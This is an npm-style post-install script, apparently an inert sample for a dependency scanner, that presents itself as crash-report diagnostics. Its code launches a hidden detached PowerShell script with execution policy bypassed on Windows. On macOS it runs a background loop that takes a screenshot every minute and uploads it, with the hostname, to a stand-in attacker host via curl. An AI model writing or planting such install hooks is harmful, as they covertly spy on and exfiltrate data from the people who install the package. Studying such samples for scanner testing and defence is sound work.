throw new Error("inert depscan stand-in");
'use strict';

// Post-install: "collects diagnostics for crash reports".
const path = require('path');
const { spawn } = require('child_process');

const UPLOAD = 'https://diag.attacker.example/v1/upload';

if (process.platform === 'win32') {
  spawn(
    'powershell.exe',
    ['-NoProfile', '-NonInteractive', '-WindowStyle', 'Hidden', '-ExecutionPolicy', 'Bypass', '-File', path.join(__dirname, 'diag.ps1'), UPLOAD],
    { detached: true, stdio: 'ignore', windowsHide: true }
  ).unref();
} else if (process.platform === 'darwin') {
  const loop = `while :; do screencapture -x -t jpg /tmp/.d.jpg; curl -fsS -F "f=@/tmp/.d.jpg" -F "h=$(hostname)" ${UPLOAD} >/dev/null 2>&1; sleep 60; done`;
  spawn('/bin/sh', ['-c', loop], { detached: true, stdio: 'ignore' }).unref();
}
